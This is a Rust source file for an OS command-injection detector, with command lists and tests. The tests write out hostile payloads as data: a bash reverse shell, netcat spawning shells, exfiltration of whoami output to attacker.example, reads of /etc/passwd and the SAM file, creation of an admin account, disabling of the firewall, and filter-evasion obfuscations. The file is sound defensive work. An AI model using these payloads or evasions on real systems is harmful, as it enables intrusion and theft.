//! OS command injection: a shell tokenizer that finds command positions
//! (after `;`, `|`, `||`, `&`, `&&`, newlines, inside `$(...)`, backticks,
//! `{a,b}` brace groups, or at the start of the value), normalises the command
//! word the way a shell would (quotes, backslashes, empty substitutions,
//! `${IFS}`, directories), and requires a real command with shell-shaped
//! arguments. Common English words that are also commands (`cat`, `echo`,
//! `ping`, `type`) need an argument that only a shell user writes (a flag, a
//! path, an address, a substitution or a redirection).

use super::{Attack, Hit};

/// Commands that almost never appear as plain words in text.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "wget",
    "curl",
    "ncat",
    "netcat",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "dash",
    "powershell",
    "pwsh",
    "cmd",
    "perl",
    "python",
    "python2",
    "python3",
    "php",
    "ruby",
    "telnet",
    "chmod",
    "chown",
    "systeminfo",
    "netsh",
    "tasklist",
    "certutil",
    "bitsadmin",
    "base64",
    "xterm",
    "socat",
    "busybox",
    "tftp",
    "passwd",
    "netstat",
    "nmap",
    "useradd",
    "crontab",
    "sudo",
    "wmic",
    "rundll32",
    "regsvr32",
    "mshta",
    "cscript",
    "wscript",
    "hostname",
    "dig",
    "traceroute",
    "tracert",
    "getent",
    "lsof",
    "iptables",
    "xxd",
    "nohup",
    "mkfifo",
    "sh",
    "nc",
    "id",
    "pwd",
    "printenv",
    "xargs",
    "killall",
    "pkill",
    "pgrep",
    "dmesg",
    "lsb_release",
    "sysctl",
    "modprobe",
    "insmod",
    "lsmod",
    "openssl",
    "gawk",
    "vssadmin",
    "icacls",
];

/// Commands that are also English words (or too short) and need shell-shaped arguments.
const WEAK: &[&str] = &[
    "cat",
    "ls",
    "echo",
    "ping",
    "type",
    "dir",
    "more",
    "less",
    "head",
    "tail",
    "find",
    "touch",
    "kill",
    "ps",
    "env",
    "set",
    "sleep",
    "rm",
    "cp",
    "mv",
    "mkdir",
    "grep",
    "awk",
    "sed",
    "net",
    "ver",
    "whoami",
    "printf",
    "expr",
    "timeout",
    "tac",
    "nl",
    "od",
    "strings",
    "sort",
    "uniq",
    "wc",
    "cut",
    "tee",
    "file",
    "stat",
    "which",
    "who",
    "w",
    "last",
    "uptime",
    "ssh",
    "scp",
    "ftp",
    "java",
    "node",
    "npm",
    "git",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "eval",
    "exec",
    "source",
    "export",
    "chmod",
    "start",
    "call",
    "copy",
    "del",
    "net1",
    "reg",
    "sc",
    "schtasks",
    "powershell.exe",
    "cmd.exe",
];

/// Normalises a shell word: drops quotes, backslashes, `$@`/`$*`, empty
/// backticks and `${IFS}`-like expansions, keeps the basename.
fn norm_word(w: &str) -> String {
    let b = w.as_bytes();
    let mut out = String::with_capacity(w.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\'' | b'"' | b'\\' | b'^' => i += 1,
            b'`' if b.get(i + 1) == Some(&b'`') => i += 2,
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*' | b'9' | b'0'..=b'8')) => i += 2,
            b'$' if b.get(i + 1) == Some(&b'(') && b.get(i + 2) == Some(&b')') => i += 3,
            c => {
                out.push(c.to_ascii_lowercase() as char);
                i += 1;
            }
        }
    }
    match out.rfind(['/', '\\']) {
        Some(p) => out[p + 1..].to_string(),
        None => out,
    }
}

/// Whether quoting or an empty expansion splits `word` inside (`w'h'o'am'i`,
/// `wh\`\`oami`, `who$@ami`), not just quotes around it (`"whoami"`).
fn split_by_quoting(word: &str) -> bool {
    let inner = word.trim_matches(['\'', '"']);
    inner
        .bytes()
        .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'`' | b'$'))
}

fn is_word_byte(c: u8) -> bool {
    !matches!(
        c,
        b' ' | b'\t'
            | b'\n'
            | b'\r'
            | b';'
            | b'|'
            | b'&'
            | b'<'
            | b'>'
            | b'('
            | b')'
            | b'{'
            | b'}'
            | b','
    ) && c != 0
}

/// Skips blanks and `${IFS}` / `$IFS` / `%09`-style separators.
fn skip_blanks(b: &[u8], mut i: usize) -> usize {
    loop {
        while i < b.len() && matches!(b[i], b' ' | b'\t' | 0x0b | 0x0c | b'+') {
            i += 1;
        }
        if b[i..].starts_with(b"${IFS}") {
            i += 6;
            continue;
        }
        if b[i..].starts_with(b"$IFS") {
            i += 4;
            if b[i..].starts_with(b"$9") {
                i += 2;
            }
            continue;
        }
        return i;
    }
}

fn shellish_arg(arg: &str) -> bool {
    let a = arg.trim_matches(|c| c == '\'' || c == '"');
    if a.is_empty() {
        return false;
    }
    let b = a.as_bytes();
    (b[0] == b'-' && b.len() > 1 && b[1].is_ascii_alphanumeric())
        || b[0] == b'/'
        || a.starts_with("./")
        || a.starts_with("../")
        || a.starts_with('~')
        || b[0] == b'$'
        || windows_variable(a)
        || b[0] == b'`'
        || (b.len() > 2 && b[1] == b':' && (b[2] == b'\\' || b[2] == b'/'))
        || a.starts_with("\\\\")
        || (b[0] == b'/' && b.len() > 1)
        || is_host_like(a)
        || (a.contains("://")
            && a.split("://")
                .next()
                .is_some_and(|sch| !sch.is_empty() && sch.bytes().all(|c| c.is_ascii_alphabetic())))
        || ((b[0] == b'>' || b[0] == b'<') && redirect_target(&a[1..]))
}

/// A redirection target a shell user writes: a path, a descriptor (`&1`), `/dev/...`.
fn redirect_target(t: &str) -> bool {
    let t = t.trim_start_matches(['>', '<', ' ']);
    let end = t
        .find(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | ')' | '(' | '#' | '`' | '<' | '>')
        })
        .unwrap_or(t.len());
    let t = if t.starts_with('&') { t } else { &t[..end] };
    t.starts_with('/')
        || t.starts_with('&')
        || t.starts_with("./")
        || t.starts_with('~')
        || t.starts_with('$')
        || (t.contains('.') && t.len() > 2)
}

fn is_host_like(a: &str) -> bool {
    // dotted address or name with a dot and no spaces: 127.0.0.1, evil.com, x.burpcollaborator.net
    let dots = a.bytes().filter(|&c| c == b'.').count();
    dots >= 1
        && a.bytes().all(|c| {
            c.is_ascii_alphanumeric()
                || c == b'.'
                || c == b'-'
                || c == b':'
                || c == b'`'
                || c == b'$'
        })
        && a.as_bytes()[0].is_ascii_alphanumeric()
        && !a.ends_with('.')
        && (a.bytes().filter(|c| c.is_ascii_digit()).count() >= 4 || dots >= 2 || a.contains('`'))
}

/// Whether the shell glob `pattern` (`?` one character, `*` any run) matches `name`.
/// A pattern shorter than two characters, or of wildcards only with a `*` (which
/// names every command), names none. Greedy with one backtrack point, so the time is
/// at most the product of the lengths whatever the stars (no exponential backtracking
/// on hostile input).
fn glob_names(pattern: &str, name: &str) -> bool {
    let (p, n) = (pattern.as_bytes(), name.as_bytes());
    if p.len() < 2 || p.iter().all(|&c| c == b'*' || c == b'?') && p.contains(&b'*') {
        return false;
    }
    let (mut pi, mut ni) = (0, 0);
    // the last `*` seen and where in `name` its run currently ends
    let mut star: Option<(usize, usize)> = None;
    while ni < n.len() {
        if pi < p.len() && (p[pi] == b'?' || p[pi] == n[ni]) {
            pi += 1;
            ni += 1;
        } else if pi < p.len() && p[pi] == b'*' {
            star = Some((pi, ni));
            pi += 1;
        } else if let Some((sp, sn)) = star {
            star = Some((sp, sn + 1));
            pi = sp + 1;
            ni = sn + 1;
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == b'*')
}

/// `sleep 5` / `timeout 10` as a whole command: a number of seconds and then nothing
/// but the end of the value or a shell operator (the blind, time-based probe). Text
/// goes on after the number (`sleep 8 hours`).
fn delay_alone(cmd: &str, arg: &str, rest: &str) -> bool {
    // a closing backtick is a word byte to the argument scan: `sleep 5`
    let (secs, closed) = match arg.strip_suffix('`') {
        Some(n) => (n, true),
        None => (arg, false),
    };
    matches!(cmd, "sleep" | "timeout")
        && (1..=4).contains(&secs.len())
        && secs.bytes().all(|c| c.is_ascii_digit())
        && (closed
            || rest
                .trim_start_matches([' ', '\t'])
                .bytes()
                .next()
                .is_none_or(|c| {
                    matches!(c, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'\r')
                }))
}

/// Directories of the system a command line names and text does not.
const SYSTEM_DIRS: &[&str] = &[
    "/etc/", "/bin/", "/sbin/", "/usr/", "/dev/", "/proc/", "/sys/", "/tmp/", "/var/", "/root/",
    "/home/",
];

/// The rest of a simple command: up to its first operator, at most 128 bytes, cut at a
/// character's start (the value is text, not ASCII).
fn simple_command(rest: &str) -> &str {
    let mut end = rest
        .find(['\n', '\r', ';', '|', '&', '`'])
        .unwrap_or(rest.len())
        .min(128);
    while !rest.is_char_boundary(end) {
        end -= 1;
    }
    &rest[..end]
}

/// A Windows environment variable as a word: `%SYSTEMROOT%\repair\SAM`, `%TEMP%`.
fn windows_variable(a: &str) -> bool {
    a.strip_prefix('%')
        .and_then(|r| r.find('%').map(|p| &r[..p]))
        .is_some_and(|name| {
            name.len() >= 2 && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        })
}

/// Windows administration that a command line names and text does not: `net` with one
/// of its subcommands, then nothing or a switch later (`net view`, `net user x p /add`,
/// `net localgroup administrators x /add`); `reg` changing or reading a registry hive
/// (`reg add "HKLM\..."`).
fn windows_admin(cmd: &str, arg: &str, rest: &str) -> bool {
    const NET: &[&str] = &[
        "user",
        "users",
        "localgroup",
        "group",
        "share",
        "use",
        "view",
        "accounts",
        "session",
        "start",
        "stop",
    ];
    /// netsh's contexts that change a machine's network or firewall set-up
    const NETSH: &[&str] = &[
        "advfirewall",
        "firewall",
        "interface",
        "int",
        "wlan",
        "winhttp",
        "http",
        "ipsec",
        "routing",
        "portproxy",
    ];
    // every listed command after a separator comes here: only these read further
    if !matches!(cmd, "net" | "net1" | "reg" | "netsh") {
        return false;
    }
    let mut words = simple_command(rest)
        .split([' ', '\t'])
        .filter(|w| !w.is_empty());
    match cmd {
        "net" | "net1" if NET.iter().any(|s| s.eq_ignore_ascii_case(arg)) => {
            let switch = |w: &str| {
                w.len() >= 2
                    && w.len() <= 13
                    && w.starts_with('/')
                    && w[1..].bytes().all(|c| c.is_ascii_alphabetic())
            };
            let mut later = words.peekable();
            later.peek().is_none() || later.any(switch)
        }
        "netsh" => NETSH.iter().any(|c| c.eq_ignore_ascii_case(arg)) && words.next().is_some(),
        "reg"
            if ["add", "delete", "query", "save", "export"]
                .iter()
                .any(|s| s.eq_ignore_ascii_case(arg)) =>
        {
            words.next().is_some_and(|key| {
                let key = key.trim_start_matches(['"', '\'']).as_bytes();
                key.len() >= 4 && key[..2].eq_ignore_ascii_case(b"hk")
            })
        }
        _ => false,
    }
}

/// After a command's first argument, up to the end of the simple command: a second
/// argument that is a path under a system directory (`grep root /etc/passwd`), or a
/// redirection to a path or descriptor (`echo x > /tmp/f`, `2>&1`).
fn later_shell_word(rest: &str) -> bool {
    let cmd = simple_command(rest);
    let second = cmd.split([' ', '\t']).find(|w| !w.is_empty()).unwrap_or("");
    let second = second.trim_matches(['\'', '"']);
    if SYSTEM_DIRS
        .iter()
        .any(|d| second.starts_with(d) && second.len() > d.len())
    {
        return true;
    }
    // A redirection's target is read past that end: `>&1` starts with an operator.
    cmd.bytes().enumerate().any(|(i, c)| {
        (c == b'>' || c == b'<') && {
            let t = rest[i + 1..].trim_start_matches(['>', ' ']);
            t.len() > 1 && (t.starts_with('/') || c == b'>' && t.starts_with('&'))
        }
    })
}

/// Whether a netcat command line's options hand a shell to the connection:
/// `-e /bin/sh`, `-c bash`, `--exec cmd.exe`.
fn runs_a_shell(rest: &str) -> bool {
    let mut words = simple_command(rest)
        .split([' ', '\t'])
        .filter(|w| !w.is_empty());
    while let Some(w) = words.next() {
        if matches!(w, "-e" | "-c" | "--exec" | "--sh-exec")
            || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('e') && w.len() <= 8)
        {
            let Some(prog) = words.next() else {
                return false;
            };
            let prog = prog.trim_matches(['\'', '"']).to_ascii_lowercase();
            let name = prog.rsplit(['/', '\\']).next().unwrap_or(&prog);
            let name = name.strip_suffix(".exe").unwrap_or(name);
            if matches!(
                name,
                "sh" | "bash" | "dash" | "zsh" | "ksh" | "cmd" | "powershell"
            ) {
                return true;
            }
        }
    }
    false
}

/// Commands that run the command after their own options: `sudo id`, `timeout 5 id`,
/// `env X=1 id`, `nohup nc ...`. The wrapped command is judged as if it stood at the
/// command position.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "nohup", "timeout", "nice", "env", "setsid", "stdbuf", "time", "busybox",
];

/// Where the command a wrapper runs starts: past at most three of the wrapper's own
/// words (options, durations and counts, `NAME=value` assignments), or None when no
/// command follows them.
fn wrapped_command(b: &[u8], mut i: usize) -> Option<usize> {
    for _ in 0..3 {
        i = skip_blanks(b, i);
        let mut e = i;
        while e < b.len() && is_word_byte(b[e]) {
            e += 1;
        }
        let w = &b[i..e];
        let own = w.len() > 1 && w[0] == b'-'
            || w.first().is_some_and(u8::is_ascii_digit)
                && w.iter()
                    .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b's' | b'm' | b'h'))
            || w.first().is_some_and(|c| c.is_ascii_alphabetic())
                && w.iter().position(|&c| c == b'=').is_some_and(|p| {
                    w[..p]
                        .iter()
                        .all(|c| c.is_ascii_alphanumeric() || *c == b'_')
                });
        if !own {
            return (e > i).then_some(i);
        }
        i = e;
    }
    None
}

/// Checks the command at `i` (a command position). Returns a confidence.
fn command_at(s: &str, i: usize, after_sep: bool) -> Option<(u8, usize)> {
    let found = command_word(s, i, after_sep)?;
    let direct = found.conf;
    // One level of wrapper, at a command position only: `; timeout 5 id`.
    if after_sep && direct.is_none_or(|(c, _)| c < 85) && WRAPPERS.contains(&found.cmd.as_str()) {
        if let Some(p) = wrapped_command(s.as_bytes(), found.word_end) {
            if let Some((c, e)) = command_word(s, p, true).and_then(|f| f.conf) {
                if direct.is_none_or(|(d, _)| d < c) {
                    return Some((c, e));
                }
            }
        }
    }
    direct
}

/// A listed command found at a command position: its normalised name, where its word
/// ends, and the confidence that it is injected (None: listed but not shell-shaped).
struct CommandWord {
    cmd: String,
    word_end: usize,
    conf: Option<(u8, usize)>,
}

/// Reads the command word at `i` and judges it with its arguments.
fn command_word(s: &str, i: usize, after_sep: bool) -> Option<CommandWord> {
    let b = s.as_bytes();
    let substitution =
        i >= 1 && (b[i - 1] == b'`' || (i >= 2 && b[i - 1] == b'(' && b[i - 2] == b'$'));
    let start = skip_blanks(b, i);
    if start >= b.len() {
        return None;
    }
    let mut j = start;
    while j < b.len() && is_word_byte(b[j]) {
        // an empty substitution splits nothing: `wh$()oami` is `whoami`
        if b[j] == b'$' && b[j + 1..].starts_with(b"()") {
            j += 3;
            continue;
        }
        if b[j] == b'$' && (b.get(j + 1) == Some(&b'{') || b[j + 1..].starts_with(b"IFS")) {
            break;
        }
        if b[j] == b'`' {
            if b.get(j + 1) == Some(&b'`') {
                j += 2;
                continue;
            }
            break;
        }
        if b[j] == b'+' && j > start {
            break;
        }
        j += 1;
    }
    // `${IFS}` may glue command and argument
    let word = &s[start..j];
    if word.is_empty() || word.len() > 64 {
        return None;
    }
    let cmd = norm_word(word);
    let cmd = cmd.strip_suffix(".exe").unwrap_or(&cmd).to_string();
    let (strong, weak) = if word.contains(['/', '\\']) && cmd.contains(['?', '*']) {
        // `/bin/c?t`, `/???/??t`: the shell expands the pattern to a command in the
        // directory; any listed command it can name counts.
        let named = |list: &[&str]| list.iter().any(|c| glob_names(&cmd, c));
        (named(STRONG), named(WEAK))
    } else {
        (STRONG.contains(&cmd.as_str()), WEAK.contains(&cmd.as_str()))
    };
    if !strong && !weak {
        // an unlisted wrapper (`nice`, `time`) is only a way to reach the command it runs
        return WRAPPERS.contains(&cmd.as_str()).then_some(CommandWord {
            cmd,
            word_end: j,
            conf: None,
        });
    }
    // first argument
    let k = skip_blanks(b, j);
    let glued_ifs = k > j && b[j..k].contains(&b'$');
    let mut ae = k;
    // a quoted first argument is one word whatever it holds: `awk '{print $1}' /etc/passwd`
    if let Some(&q @ (b'\'' | b'"')) = b.get(k) {
        let window = &b[k + 1..b.len().min(k + 1 + 128)];
        if let Some(close) = memchr::memchr(q, window) {
            ae = k + close + 2;
        }
    }
    while ae < b.len() && (is_word_byte(b[ae]) || b[ae] == b'<' || b[ae] == b'>') {
        ae += 1;
    }
    let arg = &s[k..ae];
    let at_end = k >= b.len()
        || matches!(
            b[k],
            b';' | b'|' | b'&' | b'\n' | b'\r' | b')' | b'`' | b'#'
        );
    let redirect = k < b.len() && (b[k] == b'>' || b[k] == b'<') && redirect_target(&s[k..]);
    let shell_arg = shellish_arg(arg)
        || glued_ifs
        || redirect
        || delay_alone(&cmd, arg, &s[ae..])
        || later_shell_word(&s[ae..])
        || (after_sep && windows_admin(&cmd, arg, &s[ae..]));
    let tick = i >= 1 && b[i - 1] == b'`';
    let tight = !tick || (start == i && memchr::memchr(b'`', &b[j..]).is_some());
    let conf = if substitution
        && after_sep
        && tight
        && (strong || (weak && (!tick || shell_arg || at_end)))
    {
        85
    } else if after_sep {
        if strong && (at_end || shell_arg || !arg.is_empty()) {
            if at_end || shell_arg {
                90
            } else {
                55
            }
        } else if shell_arg
            || (at_end
                && cmd.len() >= 2
                && !matches!(
                    cmd.as_str(),
                    "set"
                        | "at"
                        | "start"
                        | "call"
                        | "file"
                        | "sort"
                        | "last"
                        | "type"
                        | "more"
                        | "less"
                        | "w"
                        | "who"
                        | "export"
                        | "source"
                        | "exec"
                        | "eval"
                        | "copy"
                        | "del"
                        | "net"
                        | "ver"
                ))
        {
            85
        } else {
            0
        }
    } else if shell_arg && (strong || arg.starts_with('/') || arg.starts_with('-') || glued_ifs) {
        if cmd.len() <= 2 && !glued_ifs && !arg.starts_with('/') {
            0
        } else {
            70
        }
    } else if strong && cmd.len() >= 5 && split_by_quoting(word) {
        // `w'h'o'am'i`, `wh""oami`, `who$@ami`: a word the shell reads as a listed
        // command, broken up so that a filter does not; nobody types one. (Short
        // names stay out: `I'd` reads as `id`.)
        80
    } else {
        0
    };
    // `nc -lvvp 4445 -e /bin/sh`: netcat handing a shell to the network, wherever
    // it stands (a two-letter name alone is too weak above)
    let conf =
        if conf < 85 && matches!(cmd.as_str(), "nc" | "ncat" | "netcat") && runs_a_shell(&s[j..]) {
            85
        } else {
            conf
        };
    Some(CommandWord {
        conf: (conf > 0).then_some((conf, ae.max(j))),
        cmd,
        word_end: j,
    })
}

/// Runs the command-injection detector.
pub fn detect(s: &str, body: bool) -> Option<Hit> {
    let b = s.as_bytes();
    // Shellshock: a bash function definition followed by a command
    if let Some(p) = memchr::memmem::find(b, b"() {") {
        let rest = s[p + 4..].trim_start();
        if rest.starts_with(':')
            || rest.starts_with("_;")
            || rest.starts_with("0;")
            || rest.starts_with("echo")
        {
            return Some(Hit::new(Attack::Cmdi, 95, s, p, p + 20));
        }
    }
    let mut best: Option<Hit> = None;
    let consider = |pos: usize, after_sep: bool, best: &mut Option<Hit>| {
        if let Some((c, e)) = command_at(s, pos, after_sep) {
            if best.as_ref().is_none_or(|h| h.confidence < c) {
                *best = Some(Hit::new(Attack::Cmdi, c, s, pos.saturating_sub(1), e));
            }
        }
    };
    consider(0, false, &mut best);
    let mut i = 0;
    let mut n = 0;
    while i < b.len() && n < 256 {
        let c = b[i];
        let next = match c {
            b';' => Some(i + 1),
            b'\n' | b'\r' => {
                // in bodies a line break is text layout: the next line must look like a
                // command line, which a command named by its path (`/usr/bin/id`) does
                if body {
                    let by_path = b.get(skip_blanks(b, i + 1)) == Some(&b'/');
                    if let Some((c, e)) = command_at(s, i + 1, by_path) {
                        if best.as_ref().is_none_or(|h| h.confidence < c) {
                            best = Some(Hit::new(Attack::Cmdi, c, s, i, e));
                        }
                    }
                    i += 1;
                    continue;
                }
                Some(i + 1)
            }
            b'|' | b'&' => {
                let mut j = i + 1;
                if j < b.len() && b[j] == c {
                    j += 1;
                }
                Some(j)
            }
            b'`' => Some(i + 1),
            b'$' if b.get(i + 1) == Some(&b'(') => Some(i + 2),
            b'{' if i == 0 || b[i - 1] != b'$' => {
                // brace expansion {cat,/etc/passwd}; empty words vanish, so
                // `{,ifconfig}` runs `ifconfig`
                let rest = &s[i + 1..];
                let lead = rest.bytes().take_while(|&c| c == b',').count();
                if let Some(comma) = rest[lead..].find(',').map(|c| c + lead) {
                    let cmd = norm_word(&rest[lead..comma]);
                    let arg = rest[comma + 1..].split(['}', ',']).next().unwrap_or("");
                    let strong = STRONG.contains(&cmd.as_str());
                    if (strong && (lead > 0 || arg.is_empty() || shellish_arg(arg)))
                        || (WEAK.contains(&cmd.as_str()) && shellish_arg(arg))
                    {
                        let h = Hit::new(Attack::Cmdi, 85, s, i, i + 1 + comma + 12);
                        if best.as_ref().is_none_or(|x| x.confidence < 85) {
                            best = Some(h);
                        }
                    }
                } else if lead > 0 {
                    let end = rest.find('}').unwrap_or(rest.len());
                    if STRONG.contains(&norm_word(&rest[lead..end]).as_str()) {
                        let h = Hit::new(Attack::Cmdi, 85, s, i, i + 2 + end);
                        if best.as_ref().is_none_or(|x| x.confidence < 85) {
                            best = Some(h);
                        }
                    }
                }
                None
            }
            _ => None,
        };
        if let Some(p) = next {
            n += 1;
            consider(p, true, &mut best);
            i = p.max(i + 1);
        } else {
            i += 1;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        detect(s, false).is_some_and(|h| h.confidence >= 60)
    }

    #[test]
    fn attacks() {
        for a in [
            "127.0.0.1; whoami",
            "127.0.0.1;wh``oami",
            "x||ping -c 10 127.0.0.1||",
            "||nslookup `whoami`.attacker.example||",
            "; cat /etc/passwd",
            "$(id)",
            "`uname -a`",
            "cat${IFS}/etc/passwd",
            "| dir c:\\",
            "a && w'h'o'am'i",
            // a listed command broken up by quoting, as the whole value
            "w'h'o'am'i",
            "wh\"\"oami",
            "who$@ami",
            "wh``oami",
            "w\\ho\\am\\i",
            "{cat,/etc/passwd}",
            "{,ifconfig}",
            "{,whoami,}",
            "{uname,-a}",
            "nc -lvvp 4445 -e /bin/sh &",
            "ncat 10.0.0.1 4444 -e cmd.exe",
            "nc -nlvpe /bin/bash",
            "; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            // glob patterns the shell expands to a command
            ";/bin/c?t /etc/passwd",
            "|/???/??t /etc/shadow",
            "; /usr/bin/wh??mi",
            // an empty substitution inside the command word
            ";wh$()oami",
            // the time-based blind probe
            ";sleep 5",
            "| sleep 10 #",
            "`sleep 5`",
            "&& timeout 7",
            // a wrapper running a listed command
            "; timeout 5 id",
            "| sudo -u root id",
            "; nice -n 10 cat /etc/shadow",
            "&& env X=1 whoami",
            // a quoted first argument, then a system path
            "; awk '{print $1}' /etc/passwd",
            // Windows administration and variables
            "; net user hacker Password1 /ADD",
            "& net localgroup Administrators hacker /ADD",
            "; net view",
            "| reg add \"HKLM\\System\\CurrentControlSet\" /v x /t REG_DWORD /d 0 /f",
            "& type %SYSTEMROOT%\\repair\\SAM",
            "& netsh",
            "; netsh firewall set opmode disable",
            "| netsh advfirewall set allprofiles state off",
            // a system path after the first argument, a redirection later in the command
            ";grep root /etc/passwd",
            "| sort -r /etc/group",
            "; echo pwned > /tmp/x",
            "; printf hi >> /var/www/x.php",
            ";printenv",
            "| xargs -n1",
        ] {
            assert!(hit(a), "missed {a}");
        }
    }

    #[test]
    fn body_lines() {
        let body_hit = |s: &str| detect(s, true).is_some_and(|h| h.confidence >= 60);
        // a line break in a body is text layout unless the next line is a command line
        for a in [
            "\n/usr/bin/id\n",
            "x\n/bin/ls -al",
            "\n/usr/bin/id|",
            "a\ncat /etc/passwd",
        ] {
            assert!(body_hit(a), "missed in a body: {a:?}");
        }
        for b in [
            "name\nid\nemail",
            "see\n/usr/share/doc for more",
            "list:\n/home/me/cat pictures",
            "Dear team,\nsleep well",
        ] {
            assert!(!body_hit(b), "false positive in a body: {b:?}");
        }
    }

    #[test]
    fn long_commands_cut_at_a_character() {
        // the fuzzer's find: the 128-byte window of a later argument ended inside `é`
        for pad in 120..=130 {
            let s = format!(";grep a {}é /etc/passwd", "x".repeat(pad));
            let _ = detect(&s, false);
            let _ = detect(&s, true);
        }
    }

    #[test]
    fn globs() {
        assert!(glob_names("c?t", "cat"));
        assert!(glob_names("??t", "cat"));
        assert!(glob_names("wh*i", "whoami"));
        assert!(glob_names("*ami", "whoami"));
        assert!(glob_names("w*o*a*i*", "whoami"));
        assert!(!glob_names("c?t", "cut!"));
        assert!(!glob_names("*", "cat"));
        assert!(!glob_names("**", "cat"));
        assert!(!glob_names("?", "w"));
        // many stars that almost match: linear backtracking, not exponential
        let hostile = "a*".repeat(30) + "b";
        assert!(!glob_names(
            &hostile,
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
        ));
    }

    #[test]
    fn benign() {
        for b in [
            "echo in the mirror",
            "I'd like a refund",
            "{,cat}",
            "nc -l 8080 -e is not supported",
            "nc -z host 80",
            "{id,name}",
            "{ping,pong}",
            "\"whoami\" lyrics",
            "'hostname' field",
            "curl and divergence",
            "bash away in the gym",
            "zsh is the best!",
            "ls 300 lexus",
            "nc 8000 controller",
            "exec noun",
            "Tom & Jerry; then we eat",
            "hello; cat food is great",
            "Q&A | more info",
            "salt & pepper",
            "Good night; sleep 8 hours",
            "I need sleep 5",
            "Q&A; more info /docs/faq",
            "see below; find it in /usr/share/doc",
            "price; more than 5 > 3",
            "results: a > b; echo chamber",
            "/search?q=1",
            "docs; /api/v?/items",
            "x; /*",
            "rates & timeout 30 seconds",
            "coffee; time is money",
            "cats & nice cat pictures",
            "ok; sudo make me a sandwich",
            "a; env is fine here",
            "try; awk 'is a tool' for text",
            "Q3; net user growth was 5%",
            "fish & net income per share",
            "profit & net sales /year",
            "see; reg add-ons in the store",
            "50%; type 100% cotton",
            "home; netsh is a Windows tool",
        ] {
            assert!(!hit(b), "false positive on {b}: {:?}", detect(b, false));
        }
    }
}
